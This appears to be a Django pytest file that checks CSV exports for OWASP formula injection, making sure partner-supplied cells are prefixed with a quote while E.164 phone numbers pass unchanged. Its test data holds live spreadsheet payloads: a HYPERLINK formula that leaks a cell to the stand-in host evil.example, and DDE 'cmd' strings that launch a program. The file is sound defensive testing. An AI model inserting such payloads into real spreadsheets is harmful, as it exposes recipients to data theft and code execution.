"""CSV formula injection (OWASP): every export a marketer opens in a spreadsheet shows
partner-supplied text as text, never as a formula, through one helper."""

import csv
import io

import pytest
from django.urls import reverse

from audiences import services
from campaigns.models import SendRecipient
from setter.csvstream import line_writer, neutralize_cell
from tests.audiences.helpers import csv_bytes, upload
from tests.factories import OrganizationFactory, SendFactory, SendRecipientFactory, UserFactory

ATTACKS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("value", ATTACKS)
def test_a_cell_that_could_be_a_formula_is_prefixed_with_a_quote(value):
    assert neutralize_cell(value) == "'" + value


@pytest.mark.parametrize(
    "value",
    ["+442079460003", "+15551234567", "plain text", "a=b", "", "São Paulo", "'=already"],
)
def test_e164_phones_and_ordinary_text_are_left_alone(value):
    assert neutralize_cell(value) == value


@pytest.mark.parametrize(
    "value", ["+44 20 7946 0958", "+0123", "+1234567890123456", "+1=1", "-5", "+"]
)
def test_only_exact_e164_is_exempt_from_the_quote(value):
    assert neutralize_cell(value) == "'" + value


def test_non_text_cells_pass_through():
    assert line_writer().writerow([3, None, True, -1]) == "3,,True,-1\r\n"


def _rows(response) -> list[list[str]]:
    assert response.status_code == 200
    return list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))


@pytest.mark.django_db
def test_the_rejected_rows_download_neutralises_every_partner_supplied_cell(client):
    organization = OrganizationFactory()
    client.force_login(UserFactory(organization=organization))
    content = csv_bytes(
        ["external_id", "phone", "first_name", "city"],
        [[ATTACKS[0], "=1+2", ATTACKS[3], ATTACKS[1]]],
    )
    audience = services.ingest_audience(upload(organization, content).pk)

    header, row = _rows(client.get(reverse("admin:audiences_audience_rejects", args=[audience.pk])))

    cells = dict(zip(header, row, strict=True))
    assert cells["phone"] == "'=1+2"
    assert cells["external_id"] == "'" + ATTACKS[0]
    assert cells["first_name"] == "'" + ATTACKS[3]
    assert cells["city"] == "'" + ATTACKS[1]
    assert cells["status"] == "invalid_phone"


@pytest.mark.django_db
def test_the_recipients_export_neutralises_error_titles_and_keeps_e164_phones(client):
    send = SendFactory(name="-spring", campaign__name="@launch")
    client.force_login(UserFactory(organization=send.campaign.organization))
    SendRecipientFactory(
        send=send,
        phone_e164="+442079460003",
        status=SendRecipient.Status.FAILED,
        error_code="131026",
        error_title='=HYPERLINK("http://evil.example")',
    )

    header, row = _rows(client.get(reverse("admin:campaigns_sendrecipient_export")))

    cells = dict(zip(header, row, strict=True))
    assert cells["phone_e164"] == "+442079460003"
    assert cells["error_title"] == '\'=HYPERLINK("http://evil.example")'
    assert cells["send__name"] == "'-spring"
    assert cells["send__campaign__name"] == "'@launch"
